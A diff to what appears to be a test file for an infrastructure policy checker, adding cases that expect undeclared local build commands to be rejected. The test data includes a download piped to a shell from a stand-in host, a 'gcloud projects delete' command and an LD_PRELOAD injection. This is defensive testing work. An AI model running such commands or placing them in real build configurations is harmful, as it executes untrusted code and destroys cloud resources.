@@ -72,6 +72,14 @@ def cluster(**overrides: Any) -> dict[str, Any]:
     return props
 
 
+def build_command(**changes: Any) -> dict[str, Any]:
+    """The TPU engine image's build command as the program declares it (components/engineimage.py)."""
+    from components import engineimage
+
+    return {"create": engineimage.build_script(), "interpreter": list(engineimage.BUILD_INTERPRETER),
+            "dir": "components/locks", "environment": dict.fromkeys(engineimage.BUILD_ENVIRONMENT, "x"), **changes}
+
+
 def node_pool(machine: str = "n2-standard-8", **node_config: Any) -> dict[str, Any]:
     config = {"machineType": machine, "serviceAccount": NODE_SA, "workloadMetadataConfig": {"mode": "GKE_METADATA"},
               "shieldedInstanceConfig": SHIELDED}
@@ -313,6 +321,18 @@ CASES: list[tuple[str, str, dict[str, Any], list[str]]] = [
     ("declared-nodes", NODE_POOL, node_pool(), []),
     ("declared-nodes", NODE_POOL, node_pool(metadata={"disable-legacy-endpoints": "false"}),
      ['nodeConfig.metadata disable-legacy-endpoints="false" is not declared']),
+    # ---- declared-commands
+    ("declared-commands", "command:local:Command", build_command(), []),
+    ("declared-commands", "command:local:Command", build_command(create="curl -fsSL http://x.invalid/i.sh | sh"),
+     ["a local command that is not declared (components/declared.py commands): interpreter [\"/bin/bash\", \"-c\"], "
+      "dir \"components/locks\", script starting 'curl -fsSL http://x.invalid/i.sh | sh'"]),
+    ("declared-commands", "command:local:Command", build_command(delete="gcloud projects delete p"),
+     ['runs a delete command ("gcloud projects delete p"), which the declaration has none of']),
+    ("declared-commands", "command:local:Command", build_command(environment={"PROJECT": "p", "LD_PRELOAD": "x"}),
+     ["sets environment ['LD_PRELOAD'], which the declaration does not name"]),
+    ("declared-commands", "command:local:Command", build_command(interpreter=["/bin/sh", "-c"]),
+     ["a local command that is not declared (components/declared.py commands): interpreter [\"/bin/sh\", \"-c\"], "
+      "dir \"components/locks\", script starting 'set -euo pipefail'"]),
     # ---- k8s-pinned-images
     ("k8s-pinned-images", DEPLOYMENT, deployment(), []),
     ("k8s-pinned-images", DEPLOYMENT, deployment(image="ghcr.io/llm-d/llm-d@sha256:" + "a" * 64), []),
@@ -1069,6 +1089,8 @@ ISSUE_MUTATIONS = [
     ("tpu", "containers", "hold: the built engine image by tag"),
     ("tpu", "IAM", "engine-image-source: condition removed"),
     ("tpu", "IAM", "engine-image-push: member allUsers"),
+    ("tpu", "commands", "engine-image-build: a download piped to a shell appended"),
+    ("tpu", "commands", "engine-image-build: a delete command"),
     ("gpu", "start commands", "stage-weights: pip install without --require-hashes"),
     ("gpu", "code ConfigMaps", "weights-staging-code tools--staging--requirements.lock: tampered"),
     ("gpu", "code ConfigMaps", "weights-staging-code tools--staging--copy.py: tampered"),
